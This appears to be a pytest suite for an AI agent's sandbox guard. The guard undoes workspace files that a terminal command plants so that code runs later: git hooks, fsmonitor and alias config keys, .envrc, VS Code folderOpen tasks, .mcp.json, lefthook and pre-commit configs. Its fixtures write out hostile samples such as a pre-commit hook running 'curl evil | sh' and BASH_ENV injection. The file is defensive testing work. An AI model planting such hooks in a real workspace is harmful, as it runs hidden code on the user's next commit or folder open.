"""The workspace cannot arm a later run: what a command plants (git hooks, program-running
git config, .envrc, editor tasks, .hermes/, .mcp.json) is put back after it and reported,
while git init / clone / remote add keep working. In process (Snapshot around direct file
changes) and through the terminal tool in the kernel sandbox (wire)."""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from agent.sandbox.arming import CLOCK_REALTIME_COARSE, Snapshot, git_config_entries
from agent.tools.registry import ToolContext

PLANTS = {
    ".git/hooks/pre-commit": "#!/bin/sh\ncurl evil | sh\n",
    ".envrc": "export PATH=./evil:$PATH\n",
    ".vscode/tasks.json": '{"tasks": [{"runOn": "folderOpen", "command": "evil"}]}\n',
    ".vscode/settings.json": '{"terminal.integrated.shell.linux": "/tmp/evil"}\n',
    ".hermes/hooks.yaml": "on_start: evil\n",
    ".mcp.json": '{"mcpServers": {"x": {"command": "evil"}}}\n',
    ".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks: [{id: x, entry: evil, language: system}]\n",
    ".husky/pre-commit": "evil\n",
    "lefthook.yml": "pre-commit:\n  commands: {x: {run: evil}}\n",
}
EVIL_CONFIG = """\
[core]
\thooksPath = /tmp/evil-hooks
\tfsmonitor = /tmp/evil
\tsshCommand = evil
[alias]
\tst = !evil
\tco = checkout
[filter "lfs"]
\tclean = evil %f
[diff "pdf"]
\ttextconv = evil
[remote "origin"]
\turl = https://example.invalid/repo.git
"""


def _repo(ws: Path) -> None:
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\n")
    (ws / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (ws / ".vscode").mkdir()
    (ws / ".vscode" / "settings.json").write_text('{"editor.tabSize": 4}\n')


def test_plants_are_removed_and_changes_put_back(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    _repo(ws)
    snap = Snapshot.take(str(ws), str(ws))
    for rel, text in PLANTS.items():
        (ws / rel).parent.mkdir(parents=True, exist_ok=True)
        (ws / rel).write_text(text)
    (ws / ".git" / "hooks" / "pre-commit").chmod(0o755)
    (ws / ".git" / "config").write_text("[core]\n\tbare = false\n" + EVIL_CONFIG)
    (ws / "clone" / ".git" / "hooks").mkdir(parents=True)  # a fresh clone beside it
    (ws / "clone" / ".git" / "hooks" / "post-checkout").write_text("evil\n")
    lines = snap.revert()
    assert len(lines) == len(PLANTS) + 2
    for rel in PLANTS:
        if rel == ".vscode/settings.json":
            assert (ws / rel).read_text() == '{"editor.tabSize": 4}\n'
        else:
            assert not (ws / rel).exists(), rel
    assert not (ws / "clone" / ".git" / "hooks" / "post-checkout").exists()
    assert (ws / ".git" / "hooks" / "pre-commit.sample").exists()
    kept = {k for _, k, _ in git_config_entries((ws / ".git" / "config").read_text())}
    assert kept == {"core.bare", "alias.co", 'remote.origin.url'}
    assert any("core.fsmonitor" in line and "removed" in line for line in lines)
    assert snap.revert() == []  # nothing left to put back


def test_allowed_entries_and_untouched_files_are_left_alone(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    _repo(ws)
    (ws / ".envrc").write_text("export A=1\n")
    snap = Snapshot.take(str(ws), str(ws), frozenset({".envrc"}))
    (ws / ".envrc").write_text("export A=2\n")
    (ws / "src.py").write_text("print(1)\n")
    assert snap.revert() == []
    assert (ws / ".envrc").read_text() == "export A=2\n"


def test_a_link_planted_in_place_of_a_hook_is_removed_not_followed(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    _repo(ws)
    victim = tmp_path / "victim"
    victim.write_text("keep\n")
    snap = Snapshot.take(str(ws), str(ws))
    (ws / ".vscode" / "settings.json").unlink()
    (ws / ".vscode" / "settings.json").symlink_to(victim)
    assert snap.revert()
    assert victim.read_text() == "keep\n"
    assert (ws / ".vscode" / "settings.json").read_text() == '{"editor.tabSize": 4}\n'
    assert not (ws / ".vscode" / "settings.json").is_symlink()


# ---- through the terminal tool, in the kernel sandbox ---------------------------------


@pytest.fixture
def sandboxed(tmp_path: Path, hermes_home: Path, monkeypatch: pytest.MonkeyPatch):
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    ws = tmp_path / "ws"
    ws.mkdir()
    monkeypatch.setenv("HOME", str(tmp_path))
    return ToolContext(session_id="s", home=hermes_home, cwd=ws, yolo=True)


@pytest.mark.wire
def test_a_command_cannot_arm_the_workspace_and_git_still_works(sandboxed, call) -> None:
    ws = Path(sandboxed.cwd)
    plant = " && ".join(f"mkdir -p $(dirname {rel}) && printf 'evil' > {rel}" for rel in PLANTS)
    result = call("terminal", sandboxed, command=(
        "git init -q . && git remote add origin https://example.invalid/r.git && "
        "git config core.fsmonitor /tmp/evil && git config alias.st '!evil' && "
        f"{plant} && chmod +x .git/hooks/pre-commit && echo planted"))
    assert "planted" in result.content and "[exit code 0]" in result.content
    assert "put back files this command planted" in result.content
    for rel in PLANTS:
        assert not (ws / rel).exists(), rel
    config = subprocess.run(["git", "config", "--list", "--local"], cwd=ws, capture_output=True,
                            text=True, check=True).stdout
    assert "remote.origin.url=https://example.invalid/r.git" in config
    assert "fsmonitor" not in config and "alias.st" not in config
    quiet = call("terminal", sandboxed, command="git status --short && echo fine")
    assert "fine" in quiet.content and "put back" not in quiet.content


@pytest.mark.wire
def test_cost_of_the_guard_per_terminal_call(sandboxed, call) -> None:
    ws = Path(sandboxed.cwd)
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    for number in range(50):
        (ws / f"dir{number}").mkdir()
    timings = []
    for _ in range(20):
        start = time.perf_counter()
        snap = Snapshot.take(str(ws), str(ws))
        snap.revert()
        timings.append(time.perf_counter() - start)
    timings.sort()
    print(f"\narming guard per terminal call (git repo + 50 subdirectories): "
          f"median {timings[10] * 1000:.2f} ms")
    assert timings[10] < 0.05


def test_allow_arming_from_config_reaches_the_guard(tmp_path: Path) -> None:
    """`sandbox: {allow_arming: [.envrc]}` lets a command keep its .envrc (and only that):
    the setting travels config -> SandboxSettings -> Policy -> the guard."""
    from agent.sandbox.arming import Watch
    from agent.sandbox.policy import build_policy
    from frontend.config.sandbox_setup import sandbox_settings
    from frontend.config.settings import Settings

    ws = tmp_path / "ws"
    ws.mkdir()
    settings = Settings(home=tmp_path / "home", raw={"sandbox": {"allow_arming": [".envrc"]}})
    policy = build_policy(sandbox_settings(settings), tmp_path / "home", ws, environ={})
    assert policy.allow_arming == (".envrc",)

    class Box:  # what the terminal hands the guard: an enabled sandbox and its policy
        enabled = True

    Box.policy = policy
    watch = Watch(Box(), ws)
    (ws / ".envrc").write_text("export A=1\n")
    (ws / ".mcp.json").write_text("{}\n")
    note = watch.done(str(ws))
    assert (ws / ".envrc").exists() and not (ws / ".mcp.json").exists()
    assert "ws/.mcp.json (created" in note and "ws/.envrc" not in note


def test_the_guard_never_touches_hermes_home_or_what_it_did_not_snapshot(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`cd ~` ends the command in a directory the guard never snapshotted, whose
    `.hermes/` is HERMES_HOME: it is left alone (main deleted it as planted)."""
    home = tmp_path / "home"
    store, ws = home / ".hermes", home / "project"
    (store / "memories").mkdir(parents=True)
    (store / "config.yaml").write_text("model: x\n")
    (store / "memories" / "MEMORY.md").write_text("tea\n")
    ws.mkdir()
    monkeypatch.setenv("HERMES_HOME", str(store))
    snap = Snapshot.take(str(ws), str(ws))
    assert snap.revert(str(home)) == [] and snap.revert(str(store)) == []
    assert (store / "config.yaml").read_text() == "model: x\n"
    assert (store / "memories" / "MEMORY.md").read_text() == "tea\n"


def test_a_hermes_folder_replaced_by_a_link_is_put_back_with_its_bytes(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    (ws / ".hermes").mkdir(parents=True)
    (ws / ".hermes" / "settings.yaml").write_text("model: mine\n")
    snap = Snapshot.take(str(ws), str(ws))
    (ws / ".hermes").rename(ws / "old")
    (ws / "evil").mkdir()
    (ws / "evil" / "hooks.yaml").write_text("UserPromptSubmit: evil\n")
    (ws / ".hermes").symlink_to(ws / "evil")
    lines = snap.revert(str(ws))
    assert any(".hermes" in line for line in lines)
    assert not (ws / ".hermes").is_symlink()
    assert (ws / "evil" / "hooks.yaml").exists()  # not ours to delete: never snapshotted
    assert (ws / ".hermes" / "settings.yaml").read_text() == "model: mine\n"
    assert not (ws / ".hermes" / "hooks.yaml").exists()


def test_in_a_directory_not_snapshotted_only_new_entries_are_disarmed_never_deleted(
        tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    deep = ws / "a" / "b"
    (deep / ".git" / "hooks").mkdir(parents=True)
    (deep / ".git" / "hooks" / "pre-push").write_text("#!/bin/sh\nmine\n")  # the user's own
    made = (deep / ".git" / "hooks" / "pre-push").stat().st_ctime_ns
    deadline = time.monotonic() + 2
    while time.clock_gettime_ns(CLOCK_REALTIME_COARSE) <= made:  # the next tick of the
        assert time.monotonic() < deadline  # file systems' clock: "before the command"
    snap = Snapshot.take(str(ws), str(ws))
    (deep / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nevil\n")
    lines = snap.revert(str(deep))
    assert (deep / ".git" / "hooks" / "pre-push").read_text() == "#!/bin/sh\nmine\n"
    assert not (deep / ".git" / "hooks" / "pre-commit").exists()
    assert (deep / ".git" / "hooks" / "pre-commit.disarmed-by-hermes").read_text() == "#!/bin/sh\nevil\n"
    assert len(lines) == 1 and "renamed" in lines[0]


def test_protected_mounts_list_the_executable_config_and_honour_allow_arming(tmp_path: Path) -> None:
    """What agent/sandbox/protect.py binds read-only (or as a mount-point anchor) for a
    workspace, in mount order; `allow_arming` entries are left out."""
    from agent.sandbox.policy import SandboxSettings, build_policy
    from agent.sandbox.protect import protected_mounts

    ws = tmp_path / "ws"
    _repo(ws)
    (ws / ".git" / "modules" / "lib" / "hooks").mkdir(parents=True)
    (ws / ".git" / "modules" / "lib" / "HEAD").write_text("ref: x\n")
    (ws / ".git" / "modules" / "lib" / "config").write_text("[core]\n")
    (ws / ".envrc").write_text("export A=1\n")
    (ws / ".hermes").mkdir()
    (ws / "link.md").write_text("x")
    (ws / ".mcp.json").symlink_to(ws / "link.md")  # a link is never mounted over

    def mounts(*allow: str) -> dict[str, bool]:
        settings = SandboxSettings(allow_arming=allow)
        policy = build_policy(settings, tmp_path / "hh", ws, environ={"HOME": str(tmp_path)})
        found = protected_mounts(policy)
        assert [p for p, _ in found] == sorted((p for p, _ in found), key=lambda p: p.count("/"))
        return {os.path.relpath(p, ws): ro for p, ro in found}

    assert mounts() == {".git": False, ".git/config": True, ".git/hooks": True,
                        ".git/modules/lib": False, ".git/modules/lib/config": True,
                        ".git/modules/lib/hooks": True, ".envrc": True, ".vscode": True,
                        ".hermes": True}
    assert set(mounts(".envrc", ".git/hooks")) == {".git", ".git/config", ".git/modules/lib",
                                                   ".git/modules/lib/config", ".vscode", ".hermes"}
    assert set(mounts(".git")) == {".envrc", ".vscode", ".hermes"}


def test_a_bare_repository_anywhere_loses_the_keys_a_command_added(tmp_path: Path) -> None:
    """Repositories anywhere, in process: `git init --bare deep/evil.git` and a separate git
    dir are found by a walk of the workspace, not only `.git` of the top."""
    ws = tmp_path / "ws"
    (ws / "deep").mkdir(parents=True)
    snap = Snapshot.take(str(ws), str(ws))
    for repo in ("deep/evil.git", "store"):
        (ws / repo / "objects").mkdir(parents=True)
        (ws / repo / "hooks").mkdir()
        (ws / repo / "HEAD").write_text("ref: refs/heads/main\n")
        (ws / repo / "config").write_text("[core]\n\tbare = true\n\tpager = evil\n[alias]\n\tst = !evil\n")
        (ws / repo / "hooks" / "post-receive").write_text("evil\n")
    lines = snap.revert()
    for repo in ("deep/evil.git", "store"):
        assert (ws / repo / "config").read_text() == "[core]\n\tbare = true\n[alias]\n", lines
        assert not (ws / repo / "hooks" / "post-receive").exists()


def test_what_direnv_loads_with_an_envrc_is_judged_like_it(tmp_path: Path) -> None:
    """`.envrc` says `dotenv`; a `.env` the command makes is removed,
    one it changes put back; the file tools ask before writing it."""
    from agent.sandbox.arming import guarded

    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / ".envrc").write_text("dotenv\nsource_env_if_exists sub\n")
    (ws / "sub").mkdir()
    assert guarded(str(ws), str(ws / ".env")) == ".envrc"
    assert guarded(str(ws), str(ws / "other.env")) is None
    snap = Snapshot.take(str(ws), str(ws))
    (ws / ".env").write_text("BASH_ENV=./evil.sh\n")
    (ws / "sub" / ".envrc").write_text("export BASH_ENV=./evil.sh\n")
    snap.revert()
    assert not (ws / ".env").exists() and not (ws / "sub" / ".envrc").exists()


def test_every_lefthook_config_name_is_an_arming_file():
    """lefthook reads lefthook.yml, .yaml, .toml, .json, .jsonc, dotted or not, and the
    `-local` overrides: each runs commands on the user's next `git commit` (the audit of
    the audit found lefthook-local.yml and lefthook.yaml missing)."""
    from agent.sandbox.arming import ARMING_FILES
    from agent.sandbox.protect import TOP_ENTRIES

    for name in ("lefthook-local.yml", "lefthook.yaml", ".lefthook.toml", "lefthook.jsonc"):
        assert name in ARMING_FILES and name in TOP_ENTRIES, name
